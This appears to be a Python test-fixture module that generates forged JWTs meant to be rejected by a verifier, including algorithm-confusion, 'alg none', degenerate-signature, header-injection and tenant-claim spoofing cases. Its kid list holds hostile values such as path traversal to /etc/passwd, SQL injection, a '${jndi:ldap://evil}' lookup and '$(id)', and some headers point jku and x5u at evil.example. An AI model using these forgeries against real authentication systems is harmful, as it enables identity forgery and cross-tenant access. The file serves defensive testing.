"""Tokens that must not count, each for a reason of its own.

All name the victim where they get to name anybody, so that one that counted would act as it.
"""

import json
import time

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature

from .issuers import Issuer, compact, digest, ec_key, jwk, rsa_key, sign
from .values import base64url

# The order of the group of P-256. Source: FIPS 186-4, section D.1.2.3.
_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
_ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"

Tokens = dict[str, str]


def parts_of(token: str) -> list[str]:
    return token.split(".")


def swapped(one: Issuer, mine: str, victim: str) -> Tokens:
    """The pieces of tokens that count, put together otherwise."""
    good, other = one.token(mine), one.token(mine, "ES256")
    header, payload, signature = parts_of(good)
    evil = base64url(json.dumps(one.claims(victim)).encode())
    flipped = [_flip(part) for part in (header, payload, signature)]
    return {
        "the victim's claims under my signature": f"{header}.{evil}.{signature}",
        "the victim's claims under another of my signatures": (
            f"{header}.{evil}.{parts_of(other)[2]}"
        ),
        "another key's header over my signature": f"{parts_of(other)[0]}.{payload}.{signature}",
        "a bit of the header": f"{flipped[0]}.{payload}.{signature}",
        "a bit of the payload": f"{header}.{flipped[1]}.{signature}",
        "a bit of the signature": f"{header}.{payload}.{flipped[2]}",
        "half a signature": f"{header}.{payload}.{signature[:172]}",
        "a signature and more": f"{header}.{payload}.{signature}AAAA",
        "no signature": f"{header}.{evil}.",
        "no signature and no dot": f"{header}.{evil}",
        "a signature of nothing": f"{header}.{evil}.{base64url(bytes(256))}",
        "one more part": f"{good}.{signature}",
        "five parts, as if encrypted": f"{header}.{payload}.{signature}.{payload}.{signature}",
        "parts in another order": f"{payload}.{header}.{signature}",
        "detached": f"{header}..{signature}",
        "only dots": "..",
        "a dot before it": f".{good}",
        "the JSON serialization": json.dumps(
            {"payload": payload, "protected": header, "signature": signature}
        ),
        "the general JSON serialization": json.dumps(
            {"payload": payload, "signatures": [{"protected": header, "signature": signature}]}
        ),
    }


def respelled(one: Issuer, mine: str) -> Tokens:
    """A token that counts, spelled in ways that decoders of other people's take for the same."""
    good = one.token(mine)
    header, payload, signature = parts_of(good)
    last = _ALPHABET.index(signature[-1])
    return {
        # 256 bytes leave four bits of the last letter unused.
        "trailing bits of the signature": good[:-1] + _ALPHABET[last ^ 1],
        "padding": f"{good}==",
        "padding inside": f"{header}=.{payload}.{signature}",
        "a letter that stands for no byte": f"{good}A",
        "the other alphabet": f"{header}.{payload}.{signature[:-4]}+/+/",
        "a space inside": f"{header}. {payload}.{signature}",
        "a tab behind it and more": f"{good}\tx",
        "escapes": good.replace(".", "%2E"),
        "full stops of another script": good.replace(".", "\uff0e"),
        "quotes": f'"{good}"',
        "two of them": f"{good},{good}",
        "a comma and a parameter": f"{good}, realm=lake",
        "a byte order mark": f"\ufeff{good}",
        "a zero width space": f"{header}.{payload}.\u200b{signature}",
    }


def switched(one: Issuer, victim: str) -> Tokens:
    """Another algorithm than the key's."""
    claims = one.claims(victim)
    tokens: Tokens = {}
    for name in ("none", "None", "NONE", "nOnE", "none ", "", None, 0, ["none"], {"a": "none"}):
        for kid in ("RS256", ...):
            header = one.header("RS256", alg=name, kid=kid)
            unsigned = compact(header, claims, "none", None)
            tokens[f"alg {name!r} kid {kid}"] = unsigned
            tokens[f"alg {name!r} kid {kid}, and a signature"] = f"{unsigned}AAAA"
    tokens["no alg"] = compact({"kid": "RS256"}, claims, "none", None) + "AAAA"
    public = one.keys["RS256"].public_key()
    formats = serialization.PublicFormat
    for encoding in (serialization.Encoding.PEM, serialization.Encoding.DER):
        for layout in (formats.SubjectPublicKeyInfo, formats.PKCS1):
            text = public.public_bytes(encoding, layout)
            for form, secret in (("", text), (" stripped", text.strip())):
                for size in (256, 384, 512):
                    header = one.header("RS256", alg=f"HS{size}")
                    why = f"HS{size} by the public key, {encoding} {layout}{form}"
                    tokens[why] = compact(header, claims, f"HS{size}", secret)
    key = jwk(one.keys["RS256"])
    for why, secret in {
        "its modulus": key["n"].encode(),
        "its JWK": json.dumps(key).encode(),
        "its kid": b"RS256",
        "nothing": b"",
        "the issuer's name": one.name.encode(),
        "the audience": one.audience.encode(),
    }.items():
        for kid in ("RS256", "ES256", ...):
            header = one.header("RS256", alg="HS256", kid=kid)
            tokens[f"HS256 by {why}, kid {kid}"] = compact(header, claims, "HS256", secret)
    for kid, algorithm in [
        ("RS256", "PS256"), ("RS256", "RS384"), ("RS256", "RS512"), ("RS256", "PS512"),
        ("PS256", "RS256"), ("PS256", "PS384"), ("PS256", "RS512"),
    ]:  # fmt: skip
        header = one.header(algorithm, kid=kid)
        tokens[f"{algorithm} by the key for {kid}"] = compact(
            header, claims, algorithm, one.keys[kid]
        )
    lie = one.header("RS256")
    tokens["PS256 called RS256"] = compact(lie, claims, "PS256", one.keys["RS256"])
    tokens["ES256 called RS256"] = compact(lie, claims, "ES256", one.keys["ES256"])
    tokens["RS256 called ES256"] = compact(one.header("ES256"), claims, "RS256", one.keys["RS256"])
    tokens["ES256 by the key for ES384"] = compact(
        one.header("ES256", kid="ES384"), claims, "ES256", one.keys["ES256"]
    )
    return tokens


def degenerate(one: Issuer, victim: str) -> Tokens:
    """Signatures of ECDSA and Ed25519 that faulty verifiers take for any message."""
    tokens: Tokens = {}
    text = f"{_part(one.header('ES256'))}.{_part(one.claims(victim))}"
    numbers = {"0": 0, "1": 1, "n": _ORDER, "n-1": _ORDER - 1, "n+1": _ORDER + 1}
    for r_name, r in numbers.items():
        for s_name, s in numbers.items():
            pair = r.to_bytes(32, "big") + s.to_bytes(32, "big")
            tokens[f"ES256 r={r_name} s={s_name}"] = f"{text}.{base64url(pair)}"
    good = sign("ES256", one.keys["ES256"], text.encode())
    first, second = good[:32], good[32:]
    pair = (int.from_bytes(half, "big") for half in (first, second))
    for why, signature in {
        "of ones": b"\xff" * 64,
        "of zeros, short": bytes(63),
        "of zeros, long": bytes(65),
        "in DER": encode_dss_signature(*pair),
        "in halves swapped": second + first,
        "with sign bytes": b"\0" + first + b"\0" + second,
    }.items():
        tokens[f"ES256 {why}"] = f"{text}.{base64url(signature)}"
    edwards = f"{_part(one.header('EdDSA'))}.{_part(one.claims(victim))}"
    for why, signature in {
        "zeros": bytes(64),
        # The neutral element and a scalar of nothing.
        "the neutral element": b"\x01" + bytes(63),
        "all ones": b"\xff" * 64,
    }.items():
        tokens[f"EdDSA {why}"] = f"{edwards}.{base64url(signature)}"
    return tokens


def injected(one: Issuer, victim: str) -> Tokens:
    """Headers that lead to keys of the attacker's."""
    claims = one.claims(victim)
    mine = rsa_key()
    tokens: Tokens = {}
    for kid in [
        "../../../../../../etc/passwd", "/dev/null", "/proc/self/environ", "file:///dev/null",
        "' OR '1'='1", "RS256' UNION SELECT 'key", "RS256;--", "RS256\u0000", "RS256 ", " RS256",
        "rs256", "ＲS256", "RS256/../evil", "https://evil.example/jwks", "${jndi:ldap://evil}",
        "$(id)", "`id`", "x" * 4_000, "", "weak", "curve", "twice", "oct", "enc", "no such key",
        None, 0, True, ["RS256"], {"kid": "RS256"}, ...,
    ]:  # fmt: skip
        header = one.header("RS256", kid=kid)
        tokens[f"kid {str(kid)[:40]!r}"] = compact(header, claims, "RS256", mine)
        header = one.header("RS256", kid=kid, alg="HS256")
        tokens[f"kid {str(kid)[:40]!r}, an empty secret"] = compact(header, claims, "HS256", b"")
    der = mine.public_key().public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    for kid in ("RS256", "mine", ...):
        for why, extra in {
            "jwk": {"jwk": jwk(mine) | {"kid": "mine"}},
            "jku": {"jku": "https://evil.example/jwks.json"},
            "x5u": {"x5u": "https://evil.example/chain.pem"},
            "x5c": {"x5c": [base64url(der)]},
            "x5t": {"x5t#S256": digest(der), "x5t": digest(der)[:27]},
            "all": {"jwk": jwk(mine), "jku": "file:///tmp/x", "x5u": "file:///tmp/x"},
        }.items():
            header = one.header("RS256", kid=kid) | extra
            tokens[f"{why} with kid {kid}"] = compact(header, claims, "RS256", mine)
    short = jwk(b"k" * 32)
    header = one.header("HS256", kid="mine") | {"jwk": short}
    tokens["a secret in the header"] = compact(header, claims, "HS256", b"k" * 32)
    curve = ec_key(ec.SECP384R1)
    header = one.header("ES384", kid="mine") | {"jwk": jwk(curve)}
    tokens["a curve in the header"] = compact(header, claims, "ES384", curve)
    return tokens


def extended(one: Issuer, victim: str) -> Tokens:
    """Extensions that change what a signature covers or what the token is, rightly signed."""
    tokens = {
        f"crit {value!r}": one.signed(one.claims(victim), crit=value)
        for value in (["exp"], ["b64"], ["x"], [], None, "b64", [1], {"b64": True})
    }
    for kind in ("logout+jwt", "dpop+jwt", "secevent+jwt", "JWE", "", 7, ["JWT"], "JWT\u0000"):
        tokens[f"typ {kind!r}"] = one.signed(one.claims(victim), typ=kind)
    text = json.dumps(one.claims(victim), separators=(",", ":"))
    header = _part(one.header("RS256", b64=False, crit=["b64"]))
    signature = base64url(sign("RS256", one.keys["RS256"], f"{header}.{text}".encode()))
    tokens["an unencoded payload"] = f"{header}.{text}.{signature}"
    tokens["an unencoded payload, detached"] = f"{header}..{signature}"
    tokens["an unencoded payload, encoded"] = (
        f"{header}.{base64url(text.encode())}.{signature}"
    )
    inner = one.token(victim)
    tokens["a token inside a token"] = one.signed(inner.encode(), cty="JWT")
    tokens["a token inside a string"] = one.signed(json.dumps(inner).encode(), cty="JWT")
    good = json.dumps(one.header("RS256"))[1:-1]
    for why, header in {
        "alg twice": f'{{{good},"alg":"none"}}',
        "alg twice, the other first": f'{{"alg":"none",{good}}}',
        "alg twice by an escape": f'{{{good},"\\u0061lg":"HS256"}}',
        "kid twice": f'{{{good},"kid":"ES256"}}',
        "an array": f"[{{{good}}}]",
        "a comment": f"{{{good}/**/}}",
        "a comma too many": f"{{{good},}}",
        "something behind it": f"{{{good}}} {{}}",
        "a byte order mark": f"\ufeff{{{good}}}",
    }.items():
        tokens[f"a header with {why}"] = compact(
            header.encode(), one.claims(victim), "RS256", one.keys["RS256"]
        )
    return tokens


def confused(one: Issuer, two: Issuer, shared: Issuer, victim: str) -> Tokens:
    """Issuers taken for one another: both of the first have keys of the same names."""
    tokens: Tokens = {}
    for me, other in ((one, two), (two, one)):
        claims = other.claims(victim)
        tokens[f"{me.name} signs for {other.name}"] = me.signed(claims)
        both = claims | me.claims(victim)
        tokens[f"{me.name} for the audience of {other.name}"] = me.signed(
            both | {"aud": other.audience}
        )
        tokens[f"{me.name} by the claim of {other.name}"] = me.signed(
            me.claims(None) | {other.claim: victim}
        )
        secret = shared.keys["HS256"]
        header = {"alg": "HS256", "kid": "RS256"}
        tokens[f"the secret signs for {me.name}"] = compact(
            header, me.claims(victim), "HS256", secret
        )
        tokens[f"{me.name} signs for the secret's issuer"] = me.signed(shared.claims(victim))
        public = me.keys["RS256"].public_key().public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
        )
        tokens[f"{me.name}'s public key signs for the secret's issuer"] = compact(
            header, shared.claims(victim), "HS256", public
        )
    for issuer in (
        [one.name], [one.name, two.name], {"iss": one.name}, None, 7, "", ..., f"{one.name}/",
        f" {one.name}", one.name.upper(), f"{one.name}\u0000", f"{one.name}?x", "lakewriter-dev",
        one.name.replace("/", "\uff0f"), one.name.replace(".", "\u3002"),
    ):  # fmt: skip
        tokens[f"iss {issuer!r}"] = one.token(victim, iss=issuer)
    for audience in (
        two.audience, [two.audience], [[one.audience]], {"aud": one.audience}, None, 7, "", [], ...,
        f"{one.audience} ", one.audience.upper(), f"{one.audience},{two.audience}", True,
        one.audience[:-1], f"{one.audience}\u0000", {one.audience: True},
    ):  # fmt: skip
        tokens[f"aud {audience!r}"] = one.token(victim, aud=audience)
    return tokens


def outdated(one: Issuer, victim: str) -> Tokens:
    """The wrong time, or none."""
    now = int(time.time())
    cases = {
        "exp": (now - 3_600, now - 61, 0, -1, None, "", str(now + 900), [now + 900], True, ...,
                {"exp": now + 900}, 1e300, -1e300),
        "nbf": (now + 3_600, now + 120, None, str(now - 9), [], 1e300, True),
    }  # fmt: skip
    tokens = {
        f"{name} {value!r}": one.token(victim, **{name: value})
        for name, values in cases.items()
        for value in values
    }
    for text in ("1e999", "NaN", "Infinity", "99999999999999999999", "0x7fffffff", "9" * 400):
        payload = json.dumps(one.claims(victim, exp="@")).replace('"@"', text)
        tokens[f"exp {text[:20]}"] = one.signed(payload.encode())
    return tokens


def misnamed(one: Issuer, mine: str, victim: str) -> Tokens:
    """Tenant claims that are none, or that two readers would read as two tenants; rightly signed."""
    tokens: Tokens = {}
    for value in (
        None, 0, 7, True, False, [], [victim], [mine, victim], {}, {"tenantId": victim},
        {victim: True}, ..., "", " ", f"{victim} ", f" {victim}", f"{victim}\n", f"{victim}\u0000",
        f"{victim}\u0000{mine}", f"{mine}\u0000{victim}", f"{mine},{victim}", f"{mine}/../{victim}",
        f"../{victim}", f"{victim}/", f"/{victim}", f"{victim}%00", f"{mine}%2F..%2F{victim}",
        f"{mine}/tenantId={victim}", f"tenantId={victim}", "*", f"{victim[:-1]}*",
        f"{victim[:-1]}?",
        "${aws:PrincipalTag/tenant}", "${*}", victim.upper(), victim.capitalize(),
        victim.replace("i", "і"), victim.replace("i", "ı"), victim.replace("c", "с"),
        "".join(chr(ord(c) + 0xFEE0) for c in victim), f"{victim}\u200b", f"\u202e{victim}",
        f"{victim}\ufeff", f"{victim[0]}\u0301{victim[1:]}", "\u212aacme", "1victim", "-victim",
        "_catalog", "_lakewriter", "victim.numbered", "victim\\", "v", "v" * 63, "a" * 7_000,
    ):  # fmt: skip
        tokens[f"tenant {str(value)[:30]!r} {type(value).__name__}"] = one.token(
            None, **{one.claim: value}
        )
    # Where the claim is not looked for.
    plain = one.claims(None)
    outer, inner = one.claim.split(":")
    for why, claims in {
        "nested": {outer: {inner: victim}},
        "by a dotted name": {f"{outer}.{inner}": victim},
        "by a pointer": {f"{outer}/{inner}": victim},
        "by another case": {one.claim.upper(): victim},
        "by another colon": {one.claim.replace(":", "\uff1a"): victim},
        "behind a NUL": {f"{one.claim}\u0000": victim},
        "with a space": {f"{one.claim} ": victim},
        "inside another": {"claims": {one.claim: victim}},
        "by the name of another issuer's": {"tenant": victim},
        "by a prototype": {"__proto__": {one.claim: victim}},
        "by the subject": {"sub": victim},
    }.items():
        tokens[f"tenant {why}"] = one.signed(plain | claims)
    start = json.dumps(plain)[:-1]
    name = json.dumps(one.claim)
    escaped = '"' + one.claim.replace("t", "\\u0074", 1) + '"'
    for why, tail in {
        "twice": f"{name}:{json.dumps(mine)},{name}:{json.dumps(victim)}",
        "twice, the same": f"{name}:{json.dumps(victim)},{name}:{json.dumps(victim)}",
        "twice, once null": f"{name}:null,{name}:{json.dumps(victim)}",
        "twice, once by an escape": f"{name}:{json.dumps(mine)},{escaped}:{json.dumps(victim)}",
        "twice in a nested object": f'{name}:"{victim}","x":{{"a":1,"a":2}}',
        "and iss twice": f'{name}:"{victim}","iss":{json.dumps(one.name)}',
        "and aud twice": f'{name}:"{victim}","aud":"other"',
        "and exp twice": f'{name}:"{victim}","exp":9999999999',
        "with a raw control character": f'{name}:"{victim}\n"',
        "with half a surrogate": f'{name}:"{victim}\\ud800"',
    }.items():
        tokens[f"tenant {why}"] = one.signed(f"{start},{tail}}}".encode())
    whole = f'{start},{name}:"{victim}"}}'
    for why, payload in {
        "UTF-16": whole.encode("utf-16"),
        "UTF-16 without a mark": whole.encode("utf-16-le"),
        "a byte order mark": b"\xef\xbb\xbf" + whole.encode(),
        "bytes that are no UTF-8": whole.encode().replace(b'"iat"', b'"\xff\xfe"'),
        "an overlong escape of NUL": whole.encode().replace(b'"iat"', b'"\xc0\x80"'),
        "something behind it": whole.encode() + b"{}",
        "a NUL behind it": whole.encode() + b"\0",
        "a comment": whole.encode().replace(b"{", b"{/**/"),
        "single quotes": whole.replace('"', "'").encode(),
        "an array around it": f"[{whole}]".encode(),
        "a string": json.dumps(whole).encode(),
        "nothing": b"",
        "depth": whole.encode()[:-1] + b',"x":' + b"[" * 3_000 + b"]" * 3_000 + b"}",
    }.items():
        tokens[f"a payload with {why}"] = one.signed(payload)
    return tokens


def weak(one: Issuer, bad: dict, victim: str) -> Tokens:
    """Rightly signed by keys that stand in the key set and may not serve."""
    tokens: Tokens = {}
    for kid, (algorithm, key) in bad.items():
        header = {"alg": algorithm, "kid": kid.removesuffix("'")}
        tokens[f"the key {kid} by {algorithm}"] = compact(
            header, one.claims(victim), algorithm, key
        )
    return tokens


def oversized(one: Issuer, victim: str) -> Tokens:
    return {
        "9 KB of claims": one.token(victim, x="x" * 7_000),
        "9 KB of header": one.signed(one.claims(victim), x="x" * 7_000),
        "9 KB of signature": one.token(victim) + "A" * 9_000,
        "20 KB of dots": "." * 20_000,
        "20 KB of letters": "A" * 20_000,
    }


def _part(value: dict) -> str:
    return base64url(json.dumps(value).encode())


def _flip(part: str) -> str:
    """Another letter in the middle, which is another byte."""
    middle = len(part) // 2
    other = "A" if part[middle] != "A" else "B"
    return part[:middle] + other + part[middle + 1 :]
